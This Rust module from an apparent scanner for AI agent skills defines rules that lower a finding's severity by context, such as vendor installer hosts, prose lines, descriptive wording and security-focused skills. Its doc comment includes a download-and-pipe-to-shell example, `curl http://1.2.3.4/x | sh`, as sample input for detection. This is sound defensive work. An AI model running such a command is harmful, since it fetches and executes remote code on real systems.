//! The context rules: how a behaviour rule's match ([`Hit`]) becomes a [`Finding`].
//!
//! A finding's severity starts at the rule's evidence level and is then lowered, one level
//! per rule that applies (never below `info`); `Finding::context` names them:
//!
//! - **C1 `vendor-host`**: a download-and-execute whose URL is a vendor's documented
//!   installer ([`VENDOR_HOSTS`]: `sh.rustup.rs`, `get.docker.com`, `astral.sh`, …) is
//!   `low`, whatever else applies.
//! - **C2 `prose`**: in a Markdown file, the line is prose (a paragraph, a list item, inline
//!   code, a quote) or sits in a fence marked as not meant to be run (`text`, `output`,
//!   `markdown`, `diff`, …), rather than in a runnable code block or a script. Not applied to
//!   instructions to the reader, which live in prose: prompt injection (`SC017`), credential
//!   harvesting (`SC018`), a protected archive with instructions to run it (`SC012`,
//!   critical).
//! - **C3 `descriptive`**: the line, the two prose lines before it, the prose just before
//!   its code block, or its nearest heading says it is describing rather than instructing
//!   ([`DESCRIPTIVE_WORDS`]: "example", "attack", "malicious", "detect", "never run", …).
//!   Markdown only: comments in a script do not lower anything.
//! - **C4 `security-skill`**: the skill's name or description is about security
//!   ([`crate::scan::SECURITY_WORDS`]).
//!
//! So a security skill describing `curl http://1.2.3.4/x | sh` under "Attack patterns"
//! ends up `medium` (critical − C3 − C4) and passes `fail_on = "high"`, while the same line
//! in a plain skill's code block under an "Example" heading is still `high` (critical − C3)
//! and is rejected: the descriptive context alone cannot hide critical evidence.
//!
//! [`VENDOR_HOSTS`]: crate::scan::lexicon::VENDOR_HOSTS

use crate::diag::Rule;
use crate::model::FindingSeverity;
use crate::rules;
use crate::scan::lexicon::DESCRIPTIVE_WORDS;
use crate::scan::lines::{Kind, Line};
use crate::scan::{Finding, SkillContext};

/// What one behaviour match produces before context.
pub(crate) struct Hit {
    /// The rule that matched.
    pub(crate) rule: &'static Rule,
    /// The evidence level, before the context rules.
    pub(crate) severity: FindingSeverity,
    /// Byte offset in the logical line.
    pub(crate) at: usize,
    /// One short sentence: what was found.
    pub(crate) reason: String,
    /// The URL is a vendor's documented installer (C1).
    pub(crate) vendor: bool,
}

/// The finding of `hit` on line `i` of `text` (a Markdown file when `markdown`), with the
/// context rules applied.
pub(crate) fn finding(
    ctx: &SkillContext,
    markdown: bool,
    text: &str,
    lines: &[Line],
    i: usize,
    hit: Hit,
    file: &str,
) -> Finding {
    let l = &lines[i];
    let raw = l.text(text);
    let mut severity = hit.severity;
    let mut why: Vec<&str> = Vec::new();
    if hit.vendor {
        severity = severity.min(FindingSeverity::Low);
        why.push("vendor-host");
    }
    // Instructions to the reader live in prose: injection, harvesting, and a protected
    // archive with instructions to run it.
    let instruction = hit.rule == &rules::SC017
        || hit.rule == &rules::SC018
        || (hit.rule == &rules::SC012 && hit.severity == FindingSeverity::Critical);
    if !instruction && l.kind != Kind::Code {
        severity = severity.lowered(1);
        why.push("prose");
    }
    // Prompt injection is prose; a quoted phrase is being talked about, not said.
    if (hit.rule == &rules::SC017 || hit.rule == &rules::SC018) && (l.kind != Kind::Prose || quoted(raw, hit.at)) {
        severity = severity.lowered(1);
        why.push("quoted");
    }
    if markdown && descriptive(text, lines, i) {
        severity = severity.lowered(1);
        why.push("descriptive");
    }
    if ctx.security_skill {
        severity = severity.lowered(1);
        why.push("security-skill");
    }
    let col_text = raw.get(..hit.at.min(raw.len())).unwrap_or(raw);
    Finding {
        rule: hit.rule,
        severity,
        file: file.to_owned(),
        line: l.number,
        column: u32::try_from(col_text.chars().count() + 1).unwrap_or(u32::MAX),
        reason: hit.reason,
        context: why.join(","),
    }
}

/// Whether the text at `at` follows an opening quote or backtick on its line, or the line
/// is a Markdown quote.
pub(crate) fn quoted(raw: &str, at: usize) -> bool {
    let before = raw.get(..at).unwrap_or_default();
    let opens = |c: char| before.matches(c).count() % 2 == 1;
    opens('"')
        || opens('`')
        || (before.contains('“') && !before.contains('”'))
        || before.ends_with('\'')
        || before.trim_start().starts_with('>')
}

/// Context rule C3: the line, its heading or its context prose describes rather than instructs.
pub(crate) fn descriptive(text: &str, lines: &[Line], i: usize) -> bool {
    let l = &lines[i];
    let has = |idx: usize| {
        lines.get(idx).is_some_and(|x| {
            let t = text[x.start..x.end].to_lowercase();
            DESCRIPTIVE_WORDS.iter().any(|w| t.contains(w))
        })
    };
    has(i) || (l.heading > 0 && has(l.heading - 1)) || (l.ctx.0..l.ctx.1).any(has)
}
